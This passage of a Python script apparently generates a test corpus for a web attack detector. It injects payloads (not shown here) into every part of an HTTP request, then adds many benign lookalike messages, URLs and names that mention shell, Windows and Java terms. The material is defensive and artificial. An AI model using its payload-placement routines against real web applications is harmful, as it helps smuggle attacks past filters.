    if place == "form":
        if raw:
            rec = _form("/admin/users/search", [("csrf_token", "t0k3n")])
            return {**rec, "body": rec["body"] + f"&{urllib.parse.quote(name)}={payload}"}
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, payload)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: payload})
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": f"session=abc123; {name}={_cookie_value(payload, raw)}"})}
    if place == "header:Cookie":
        return {**_get("/api/users?page=1"), "headers": _headers({"Cookie": payload})}
    if place == "header:User-Agent":
        return {**_get("/api/users?page=1"), "headers": {"User-Agent": payload, "Accept": "application/json"}}
    if place.startswith("header:"):
        return {**_get("/api/users?page=1"), "headers": _headers({place.removeprefix("header:"): payload})}
    if place == "param-name":
        key = payload if raw else urllib.parse.quote(payload, safe="")
        return _get(f"/api/users?{key}=1&page=1")
    if place == "xml":
        return _xml("/api/users", "user", name, payload)
    if place == "multipart-field":
        return _multipart("/admin/users/import", [("csrf_token", "t0k3n"), (name, payload)], None)
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", [("caption", "profile")], ("file", payload, "hello\n"))
    if place == "path":
        seg = payload if raw else urllib.parse.quote(payload, safe="/")
        return _get(f"/api/users/{seg}")
    raise ValueError(place)


def _rs(place: str, payload: str, raw: bool, path: str, name: str, named: bool) -> dict[str, Any]:
    if named:
        name, payload = _split(payload)
    kind = place.removeprefix("rs-")
    plain = {"User-Agent": "rs-suite/1.0", "Accept": "*/*"}
    if kind == "query":
        if raw:
            return {"method": "GET", "uri": f"{path}?{urllib.parse.quote(name)}={payload}", "body": "",
                    "headers": plain}
        return {"method": "GET", "uri": _query(path, [(name, payload)]), "body": "", "headers": plain}
    if kind == "form":
        body = f"{urllib.parse.quote(name)}={payload}" if raw else urllib.parse.urlencode([(name, payload)])
        return {"method": "POST", "uri": path, "body": body,
                "headers": {**plain, "Content-Type": "application/x-www-form-urlencoded"}}
    if kind == "json":
        return {"method": "POST", "uri": path, "body": json.dumps({name: payload}, ensure_ascii=False),
                "headers": {**plain, "Content-Type": "application/json"}}
    if kind == "xml":
        body = f"<?xml version=\"1.0\"?><root><{name}>{xml_escape(payload)}</{name}></root>"
        return {"method": "POST", "uri": path, "body": body, "headers": {**plain, "Content-Type": "text/xml"}}
    if kind == "cookie":
        return {"method": "GET", "uri": path, "body": "",
                "headers": {**plain, "Cookie": f"{name}={_cookie_value(payload, raw)}"}}
    if kind == "header:User-Agent":
        return {"method": "GET", "uri": path, "body": "", "headers": {"User-Agent": payload, "Accept": "*/*"}}
    if kind.startswith("header:"):
        header = {"header:X-Custom": "X-Custom-Header"}.get(kind, kind.removeprefix("header:"))
        return {"method": "GET", "uri": path, "body": "", "headers": {**plain, header: payload}}
    if kind == "multipart-filename":
        rec = _multipart(path, [], (name, payload, "hello\n"))
        return {**rec, "headers": {**rec["headers"], "User-Agent": "rs-suite/1.0"}}
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    r = 0   # one rotation across the whole set, so every place and name is used evenly
    for t_i, title in enumerate(TITLES):
        for p_i, (obf, payload) in enumerate(title.payloads):
            enc = obf == "enc"
            place, raw = _choose(title.route, t_i + p_i, payload, enc)
            rs_place, rs_raw = _choose(title.rs, t_i * 3 + p_i, payload, enc)
            recs = [(place, _route(place, payload, raw, ROUTE_NAMES[r % len(ROUTE_NAMES)], title.named)),
                    (rs_place, _rs(rs_place, payload, rs_raw, RS_PATHS[r % len(RS_PATHS)],
                                   RS_NAMES[(r + t_i) % len(RS_NAMES)], title.named))]
            r += 1
            for placement, rec in recs:
                n += 1
                for value in rec["headers"].values():
                    assert not any(c in value for c in "\r\n\x00"), (title.sub, payload)
                yield {**rec, "id": f"{NAME}-{title.category}-{n:04d}", "category": title.category,
                       "sub": title.sub, "placement": placement, "payload": payload}


# ------------------------------------------------------------------------------------------------ benign
SLACK_TEXTS = [
    # shells and servers, the way an ops channel talks
    "can someone with access check the cron on web-3? it didn't fire last night",
    "the id in the URL is the workspace id, not the user id",
    "my cat walked over the keyboard and pushed to main, sorry everyone",
    "whoami is a great name for the new onboarding bot",
    "who am i supposed to ask about the VPN certs?",
    "ls is aliased to exa on my machine so the colours look different",
    "I ran the uname check, staging is on the 6.1 kernel",
    "the password reset page still says /etc is not writable on the old box, ignore it",
    "ping me when the deploy finishes",
    "pinging the team: standup moved to 10:15",
    "wget is not installed on the slim image, use curl instead",
    "curl -s https://status.example.com returns 200 again",
    "nc is netcat, it's in the debug image only",
    "I'll sleep on it and decide tomorrow",
    "chmod fixed it, the script was not executable",
    "the bin folder under the repo only has the CLI wrappers",
    "the bash completion for our CLI is in contrib/",
    "which shell do you use, zsh or fish?",
    "python3 -m venv .venv and then pip install -r requirements.txt",
    "the build logs live in /var/log/builds on the runner",
    "passwd policy: 14 characters minimum, rotated never, MFA required",
    "/etc/hosts on my laptop still points api.local to 127.0.0.1",
    "I keep my dotfiles in a repo, .bashrc and .vimrc mostly",
    "the .env.example file lists every setting, copy it to .env locally",
    "don't commit .env files please, the pre-commit hook checks for it",
    "added .DS_Store to .gitignore finally",
    "the .git folder was 2 GB because of the old videos",
    "the .htaccess rules were dropped when we moved off Apache",
    "web.config is only for the legacy IIS box in the Paris office",
    "php.ini memory_limit is 512M on the reporting server",
    "the history of that file is long, git log --follow helps",
    "!! that was the bug, great find",
    "wow!! the demo went great",
    "alias is just a nickname in the CRM, not the legal name",
    "I set an alias for the shared mailbox: support@",
    "the environment variables are documented in the wiki",
    "env vars for staging are in the vault, not in the repo",
    "ps: bring snacks to the retro",
    "df shows the disk at 91%, I'll clean the old images",
    "du -sh on the uploads folder says 40G",
    "the pipe | character breaks our CSV export, needs quoting",
    "use `&&` between commands in the Makefile so a failure stops it",
    "semicolons; everywhere; in that old JavaScript",
    "the backtick key on the German keyboard is a pain",
    "the $PATH on the runner misses /usr/local/bin",
    "the IFS in that old script was set to a comma for the CSV loop",
    "I typed sudo !! again out of habit",
    "the history tab in the admin shows every change",
    # Windows and PowerShell admins
    "the Windows runner lost its D: drive again",
    "dir listing of the share is in the ticket",
    "type the name exactly as it appears on the passport",
    "net user add is disabled by group policy on the laptops",
    "ipconfig shows the wrong DNS on the Wi-Fi, IT is on it",
    "systeminfo says the box is Windows Server 2022",
    "the cmd window closes too quickly to read the error",
    "tasklist shows two copies of the agent running",
    "whoami /groups is a good way to check your AD groups",
    "reg query on the build box returned nothing for that key",
    "certutil is what we use to check the cert hashes on Windows",
    "wmic is deprecated, use Get-CimInstance",
    "PowerShell 7 is installed on all the Windows runners now",
    "Invoke-RestMethod is nicer than Invoke-WebRequest for JSON",
    "Get-ChildItem -Recurse takes forever on the share",
    "Start-Process with -Verb RunAs asks for elevation",
    "the ExecutionPolicy is RemoteSigned on the workstations",
    "for each customer, if the plan is annual, send the renewal email",
    "for now, if it works, leave it",
    "for /f loops in batch files are hard to read, let's port it to Python",
    "if exist checks in the installer were replaced by the MSI conditions",
    "the FOR loop in the batch script skipped blank lines",
    "C:\\Users\\Public\\Documents has the shared templates",
    "the win.ini file is not used by anything modern",
    "boot time of the new laptops is under ten seconds",
    # files, paths, uploads
    "the relative path ../assets works in the dev server but not in the bundle",
    "the docs link to ../README.md which breaks on the website",
    "please upload the signed contract as a PDF",
    "I renamed report_final.docx to report_final_v2.docx, sorry",
    "the SSH key goes in ~/.ssh/authorized_keys on the bastion",
    "the aws credentials file should never be on a shared box",
    "the svn repo is read-only now, everything moved to git",
    "the config file is config.yaml, not config.yml",
    "proc macros in Rust are still magic to me",
    "the self-service portal is live for the environment requests",
    "the shadow IT audit found three unapproved SaaS tools",
    "the group email for the finance team changed",
    "the passwd file comment field holds the full name on Linux boxes",
    # URLs and includes
    "see https://docs.example.com/guide?version=2 for the new flow",
    "the include for the header partial is in layout.html",
    "page 2 of the report has the numbers",
    "template for the newsletter is in the shared drive",
    "the file path in the ticket is wrong, it's under reports/2024",
    "the ftp server for the printer scans is retired",
    "our pastebin is internal only, don't use the public ones",
    "http://localhost:8080 is the admin UI when you run it locally",
    "the webhook goes to https://hooks.example.com/incoming?",
    "can anyone explain why the link ends with a question mark?",
    "the IP 203.0.113.7 in the docs is a documentation address",
    # Java
    "Java 21 is the baseline for the new services",
    "the Runtime settings for the JVM are in the Helm chart",
    "ProcessBuilder is fine in the CLI tool, it runs git",
    "the ClassLoader leak is fixed in the new Tomcat",
    "XMLDecoder is banned in our Java style guide",
    "the Log4j upgrade is done; jndi lookups are disabled",
    "the ${env} placeholders in the Spring config resolve at startup",
    "use ${user.home} in the Maven settings, not a full path",
    "Commons Collections 3.2.2 is the minimum, the old one had the gadget chain",
    "the serialization format is JSON now, no more Java serialization",
    "the session blob starts with rO0 because it's Java serialized, we should migrate it",
    "getRuntime() in the benchmark reports the free memory",
    "Class.forName is used to load the JDBC driver in the old module",
    "reflection via getMethod is slow, cache the Method object",
    "the ScriptEngine was removed with Nashorn",
    "JSP pages are gone from the new portal, it's all React",
    "I uploaded the jar to the artifact store",
    "the classloader hierarchy diagram is in the onboarding deck",
    "spring boot's actuator is only on the management port",
    # mail and SQLite
    "the MAIL FROM address must match the SPF record",
    "RCPT TO errors mean the mailbox is full",
    "data retention is 90 days for the logs",
    "the IMAP login fails with app passwords disabled",
    "select inbox, then filter by unread, that's the fastest",
    "user admin on the printer has been renamed",
    "the POP3 retrieval was switched off years ago",
    "sqlite3's .schema command shows the table layout",
    "run .tables in the sqlite shell to see them",
    "the .output of the nightly job goes to the reports bucket",
    "the system is down for maintenance Saturday 2-4am",
    "the shell script for backups is in ops/backup.sh",
    "load the fixtures with make seed",
    "import the CSV via the admin, not by hand",
    # everyday chat
    "lunch at the Thai place? 12:30",
    "happy birthday Siobhán! 🎂",
    "the client wants the logo 20% bigger, of course",
    "José's farewell drinks are on Thursday",
    "thanks for the quick review!",
    "can we push the release to Monday? QA found two blockers",
    "the quarterly numbers look good, finance will share them Friday",
    "the conference talk on zero trust was worth it",
    "the office Wi-Fi password is on the fridge, not in Slack please",
    "the new hire starts Monday, desk 4B",
    "I'm out sick today, ping me only if urgent",
    "coffee machine on floor 3 is fixed",
    "O'Brien & Sons signed the renewal",
    "the meeting notes (draft) are in the doc; comments welcome",
    "50% off the training budget if we book before March",
    "the printer says: PC LOAD LETTER, again",
]

PUBLIC_URLS = [
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/git-config",
    "https://sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://example.com/downloads/installer.exe",
    "https://cdn.example.org/assets/app.js?v=4.2.1",
    "https://files.example.net/reports/2024/q3.pdf",
    "https://www.example.co.uk/shop/cat-food?brand=acme&size=2kg",
    "https://blog.example.com/2023/05/01/why-we-left-php",
    "https://status.example.com/",
    "https://app.example.com/login?next=/dashboard",
    "https://app.example.com/search?q=",
    "https://maps.example.com/?ll=51.5,-0.12&z=14",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://github.com/acme/infra/blob/main/bin/deploy.sh",
    "https://github.com/acme/api/tree/main/src/main/java/com/acme/api",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#location",
    "https://www.example.org/id/12345",
    "https://shop.example.com/product/whoami-t-shirt",
    "https://radio.example.fm/shows/the-shell-game",
    "https://news.example.com/2024/10/01/java-turns-29",
    "https://example.com/files/web.config.sample.txt",
    "https://docs.example.com/en/latest/upload.html#file-types",
    "https://calendar.example.com/event?id=778&view=week",
    "ftp://ftp.example.org/pub/mirrors/",
    "https://example.com/a/b/c/index.html?ref=newsletter",
    "https://www.ietf.org/rfc/rfc3986.txt",
    "https://learn.example.com/courses/bash-for-beginners?",
]

PROSE = [
    "cat adoption records for March",
    "Catherine Idowu",
    "Id card replacement request",
    "who am I talking to at the bank",
    "Unamed vendor invoice 2231",
    "ls Consulting Ltd",
    "ping pong table booking",
    "W. Getty, 14 Curzon Street",
    "Curl Bros. Hairdressing",
    "Netcat Networks AB",
    "sleep study results",
    "chmod Technologies GmbH",
    "Dir. of Operations",
    "type 2 diabetes leaflet",
    "Net User Group meetup",
    "IP config change request",
    "System info sheet for the auditors",
    "CMD Marketing",
    "Task list for the move",
    "Reg Query (Reginald Query), account 4411",
    "Certutil vendor review",
    "WMI Corp",
    "Power Shell Gas Station, Route 9",
    "Invoke expression of interest",
    "Get child item from the lost-and-found",
    "Start process improvement plan",
    "For the attention of the IF department",
    "if exist, please forward",
    "Direct debit for the office rent",
    "Bin collection schedule",
    "Bash party planning",
    "Busy box office hours",
    "Python training invoice",
    "Shellshock energy drinks order",
    "Restricted upload form for HR",
    "Bypass surgery follow-up",
    "Java Coffee Roasters",
    "Runtime Fitness membership",
    "Process Builder Inc.",
    "Serialization of the novel in the Sunday paper",
    "Invoker Transformer model kit",
    "Chained transformer toys",
    "Suspicious class action notice",
    "Magic bytes bakery",
    "Base64 encoded attachment from the scanner",
    "Method acting workshop",
    "Log for Jane Doe's shift",
    "class module loader training",
    "Script upload instructions for the web team",
    "Jsp Travel Agency",
    "Alias: Johnny B.",
    "History of Art department",
    "Short commands for the dog trainer",
    "SQLite migration notes",
    "Mail from Anna about the lease",
    "Rcpt to finance, signed",
    "Data export request, user 8812",
    "Login issues on the IMAP server",
    "Select inbox rules for support",
    "USER manual for the printer",
    "PASS holders list for the car park",
    "Retr. Col. Smith",
    "Windows cleaning quote",
    "Unix Week workshop signups",
    "Path to promotion, level 3",
    "traversal of the hiking trail, day 2",
    "OS file cabinet order",
    "Restricted file room key",
    "Remote file review for the legal team",
    "Trailing question in the survey?",
    "Off-domain email forwarding policy",
    "Command center opening hours",
    "Injection molding supplier",
    "Expression of thanks, Ms. Okafor",
    "Shell Oil fuel card",
    "Code found in the vending machine",
    "Execution plan for Q4",
    "proc. minutes from the board meeting",
    "environ. impact report",
    "etc. etc. and so on",
]

SEARCHES = [
    "cat", "catalog", "id", "ids", "whoami", "ls", "list", "uname", "username", "passwd", "password reset",
    "etc", "bin", "bash", "shell", "ping", "curl", "wget", "netcat", "sleep", "dir", "type", "net", "user",
    "ipconfig", "system", "cmd", "tasklist", "reg", "certificate", "powershell", "invoke", "process", "for",
    "if", "exist", "java", "runtime", "class", "loader", "jndi", "log4j", "ldap", "rmi", "serialization",
    "transformer", "method", "invoke method", "upload", "jsp", "htaccess", "web config", "git", "env", "svn",
    "windows", "win.ini", "boot", "proc", "self", "environ", "shadow", "hosts", "group", "alias", "history",
    "sqlite", "mail", "rcpt", "data", "login", "inbox", "retr", "ehlo", "include", "page", "file", "template",
    "path", "http", "https", "ftp", "attacker", "example.com", "203.0.113.7", "O'Neil", "D'Souza", "Zoë",
    "Ng", "María José", "Smith & Co", "50% discount", "#general", "a/b testing", "c:", "q3 report",
]

NAMES_ADDRESSES = [
    ("Cat Nguyen", "12 Shell Road, Leeds"), ("Id Mahmoud", "4 Bin Street, Cardiff"),
    ("Wes Curl", "77 Ping Lane, Oxford"), ("Sam Dir", "9 Type Terrace, York"),
    ("Anna Net", "1 User Square, Bath"), ("Tasha Powers", "3 Process Way, Bristol"),
    ("Jaya Vaughan", "21 Runtime Close, Derby"), ("Carl Loader", "5 Class Crescent, Hull"),
    ("Elena Alias", "8 History Row, Ely"), ("Mail Rovers FC", "Data Park, Swindon"),
    ("Siobhán O'Neil", "Apt. 4/2, 10 Etc Court, Cork"), ("Zoë Ärnström", "Shadow Lane 3, Malmö"),
    ("Pierre-Louis d'Artois", "18 rue des Procs, Lyon"), ("Li Wei", "Room 1203, 88 Env Road, Shanghai"),
    ("Bash Okonkwo", "Plot 7, Sleep Close, Lagos"), ("Dorota Wget", "ul. Kota 5/3, Kraków"),
    ("Mohammed Al-Java", "P.O. Box 1414, Doha"), ("Jürgen Cmd", "Befehlstraße 2, Köln"),
    ("Ines Catarino", "Rua do Sistema 40, Porto"), ("Kofi Ls", "House 12, Id Street, Accra"),
    ("Oluwaseun Id", "23 Uname Avenue, Abuja"), ("Ruth Chmod", "60 Perm Row, Perth"),
    ("Mr & Mrs Dir", "The Old Rectory, Church Lane"), ("A. For-If", "14 Loop Street, Cape Town"),
    ("Reg Query", "Flat 9, 1 Registry Mews, London"), ("Petra Shell", "Harbour Road 11, Rotterdam"),
    ("Hiroshi Ps", "2-3-1 Marunouchi, Tokyo"), ("Dev Patel", "33 Pipe Street, Mumbai"),
    ("Grace Hopper-Smith", "1 Compiler Court, Arlington"), ("Tomás Ruiz", "Calle Ruta 5, 3ºB, Madrid"),
    ("Noor Env", "11 Variable Street, Amman"), ("Ivan Proc", "ul. Lenina 1, kv. 7, Minsk"),
    ("Fatima Zahra Etc", "Derb Sidi 4, Fes"), ("Olu Passwd", "5 Gate Road, Ibadan"),
    ("Nina Win", "22 Boot Street, Wellington"), ("Ahmed Ini", "14 Config Road, Cairo"),
    ("Léa Jsp", "7 avenue du Serveur, Nantes"), ("Björn Log", "Loggatan 4, Umeå"),
    ("Priya Ldap", "Flat 3, Directory Towers, Pune"), ("Maeve Rmi", "Knock Road, Galway"),
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile "
    "Safari/537.36",
    "curl/8.8.0", "Wget/1.21.4", "python-requests/2.32.3", "PowerShell/7.4.2", "Java/21.0.3",
    "Apache-HttpClient/5.3.1 (Java/17.0.11)", "okhttp/4.12.0", "Go-http-client/2.0", "node-fetch/1.0",
    "Slackbot 1.0 (+https://api.slack.com/robots)", "Mozilla/5.0 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A)",
    "WindowsPowerShell/5.1.22621.2506", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628)",
    "acme-cli/3.1.0 (linux; bash)", "Postman/11.2.0",
]
REFERERS = [
    "https://app.example.com/admin/users?page=2", "https://www.google.com/", "https://duckduckgo.com/?q=cat+id",
    "https://app.example.com/settings/profile#security", "https://docs.example.com/guide/install/windows",
    "https://github.com/acme/api/issues/42", "https://app.example.com/search?q=java+runtime",
    "https://slack.com/", "https://mail.example.com/inbox?folder=INBOX", "https://www.example.org/etc/news",
    "https://intranet.example.com/wiki/Bin_collection", "https://app.example.com/files?path=reports/2024",
    "https://help.example.com/articles/12-shell-scripts", "https://app.example.com/", "android-app://com.acme.app/",
    "https://www.bing.com/search?q=powershell+execution+policy", "https://app.example.com/reports?type=passwd-expiry",
    "https://status.example.com/incidents/77", "https://learn.example.com/course/java-101?lesson=3",
    "https://app.example.com/upload?step=2",
]
UPLOAD_NAMES = [
    "resume.pdf", "photo.jpg", "IMG_2024-06-01.HEIC", "report final (2).docx", "budget_q3.xlsx", "cat.png",
    "id-card-scan.pdf", "passport_scan.jpeg", "config-export.json", "contacts.csv", "my cat Whiskers.gif",
    "web_config_notes.txt", "htaccess-migration-plan.pdf", "environment-survey.pdf", "bin-collection.ics",
    "shell-bp-invoice.pdf", "java-course-certificate.pdf", "runtime-metrics.png", "Siobhán O'Neil CV.pdf",
    "Zoë's photo.png", "invoice#2231.pdf", "scan 001.tiff", "logo.svg", "presentation.key", "notes.md",
    "Dockerfile.txt", "data.sqlite.bak.zip", "mailbox-export.mbox.zip", "history-essay.odt", "alias-list.xlsx",
    "proc-minutes-2024-05.pdf", "windows-licences.xlsx", "etc-receipts.zip", "system-diagram.drawio",
    "cmd-center-map.png", "for-if-flowchart.png", "powershell-training.pptx", "sleep-log.csv",
    "avatar.webp", "ping-pong-rota.docx",
]
XML_DOCS = [
    ("user", "name", "Cat Nguyen"), ("user", "bio", "I write bash scripts and Java services"),
    ("note", "text", "ping me about the /etc/hosts change"), ("order", "item", "Java beans, 1kg"),
    ("user", "address", "12 Shell Road, Leeds"), ("note", "text", "the cmd window closes too fast"),
    ("user", "title", "Runtime engineer"), ("feed", "link", "https://blog.example.com/2024/java"),
    ("note", "text", "for each row, if empty, skip"), ("user", "bio", "PowerShell and Windows admin"),
    ("doc", "path", "reports/2024/q3.pdf"), ("doc", "title", "History of the Unix shell"),
    ("user", "name", "Reg Query"), ("note", "text", "the MAIL FROM must match SPF"),
    ("user", "nickname", "alias: cat"), ("note", "text", "use ../assets in the template"),
    ("doc", "title", "Log4j upgrade notes"), ("note", "text", "sqlite .tables shows them"),
    ("user", "bio", "Serialization nerd, ex-Apache Commons"), ("doc", "link", "https://example.com/a?b=c"),
]
COOKIE_VALUES = [
    "theme=dark", "lang=en-GB", "tz=Europe/London", "last_search=cat", "sidebar=collapsed", "consent=analytics",
    "recent=id%2Cname%2Cemail", "tour=done", "font=mono", "view=list", "region=eu-west-1", "cart=3",
    "last_page=%2Fadmin%2Fusers%3Fpage%3D2", "editor=vim", "shell=zsh", "os=windows", "jdk=21", "mail=inbox",
    "filter=history", "alias=cat",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    rs_searches = (_get(_query(RS_PATHS[i % len(RS_PATHS)], [(RS_NAMES[i % len(RS_NAMES)], s)]))
                   for i, s in enumerate(SEARCHES[::2]))
    n = yield from numbered(rs_searches, f"{NAME}-rssearch", n, "rs-query")
    n = yield from numbered((_json("/api/users", {"name": name, "address": addr, "email": "x@example.org"})
                             for name, addr in NAMES_ADDRESSES), f"{NAME}-name", n, "json")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", name)])
                             for name, _ in NAMES_ADDRESSES), f"{NAME}-name", n, "form")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "*/*"}}
                             for ua in USER_AGENTS), f"{NAME}-header", n, "header:User-Agent")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": _headers({"Referer": ref})}
                             for ref in REFERERS), f"{NAME}-header", n, "header:Referer")
    n = yield from numbered((_multipart("/api/users/42/avatar", [("caption", "profile")], ("file", f, "hello\n"))
                             for f in UPLOAD_NAMES), f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered((_xml("/api/users", root, name, value) for root, name, value in XML_DOCS),
                            f"{NAME}-xml", n, "xml")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": _headers({"Cookie": f"session=abc123; {c}"})}
                             for c in COOKIE_VALUES), f"{NAME}-cookie", n, "cookie")
    rs_bios = ({"method": "POST", "uri": RS_PATHS[i % len(RS_PATHS)],
                "body": json.dumps({RS_NAMES[i % len(RS_NAMES)]: text}, ensure_ascii=False),
                "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": "application/json"}}
               for i, text in enumerate(SLACK_TEXTS[::3]))
    yield from numbered(rs_bios, f"{NAME}-rsbio", n, "rs-json")


if __name__ == "__main__":
    print_records(attacks(), benign())
